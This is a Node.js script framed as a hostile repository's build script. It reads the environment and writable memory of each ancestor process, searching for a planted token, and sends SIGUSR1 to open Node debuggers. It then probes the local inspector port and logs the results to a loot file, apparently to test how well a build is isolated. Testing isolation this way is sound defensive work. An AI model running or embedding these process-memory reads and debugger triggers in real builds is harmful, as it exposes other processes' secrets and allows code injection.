// A build script of a hostile repository: looks for a word in the environment and the memory of each process above it, up to the one that
// BOUNDARY names, and asks each to open its debugger. Writes what it found to the file LOOT.
import { appendFileSync, openSync, readFileSync, readSync } from 'node:fs';
import { connect } from 'node:net';

const word = Buffer.from(['planted', 'token'].join('-'));
const loot = process.env.LOOT ?? 'loot';
const note = (text) => appendFileSync(loot, `${text}\n`);
const largest = 64 * 1024 * 1024;

/** Whether the process could be read. */
function attempt(what, read) {
  try {
    const found = read();
    note(`${what}: ${found ? 'FOUND' : 'nothing'}`);
    return true;
  } catch (error) {
    note(`${what}: ${error.code}`);
    return false;
  }
}

function scanMemory(pid) {
  const memory = openSync(`/proc/${pid}/mem`, 'r');
  for (const line of readFileSync(`/proc/${pid}/maps`, 'latin1').split('\n')) {
    const [, from, to, mode] = /^([0-9a-f]+)-([0-9a-f]+) (\S+)/.exec(line) ?? [];
    const size = Number.parseInt(to, 16) - Number.parseInt(from, 16);
    if (mode === undefined || !mode.startsWith('rw') || size > largest) continue;
    const part = Buffer.alloc(size);
    try {
      readSync(memory, part, 0, size, BigInt(`0x${from}`));
    } catch {
      continue;
    }
    if (part.includes(word)) return true;
  }
  return false;
}

const toParent = (pid) => Number(/^PPid:\s+(\d+)/m.exec(readFileSync(`/proc/${pid}/status`, 'latin1'))[1]);

function listAncestors() {
  const found = [];
  for (let pid = process.ppid; pid > 1; pid = toParent(pid)) {
    found.push(pid);
    if (String(pid) === process.env.BOUNDARY) break;
  }
  return found;
}

const ancestors = listAncestors();
for (const pid of ancestors) {
  const isOwn = attempt(`environ of ${pid}`, () => readFileSync(`/proc/${pid}/environ`).includes(word));
  attempt(`mem of ${pid}`, () => scanMemory(pid));
  // A command shell of the build itself ends with this signal.
  if (!isOwn) attempt(`debugger of ${pid}`, () => process.kill(pid, 'SIGUSR1') === false);
}
await new Promise((resolve) => setTimeout(resolve, 500));
const socket = connect(9229, '127.0.0.1');
await new Promise((resolve) => {
  socket.once('connect', () => resolve(note('debugger: FOUND')));
  socket.once('error', ({ code }) => resolve(note(`debugger: ${code}`)));
});
socket.destroy();
note(
  `ancestors ${ancestors.length}, boundary ${ancestors.includes(Number(process.env.BOUNDARY)) ? 'reached' : 'not reached'}`,
);
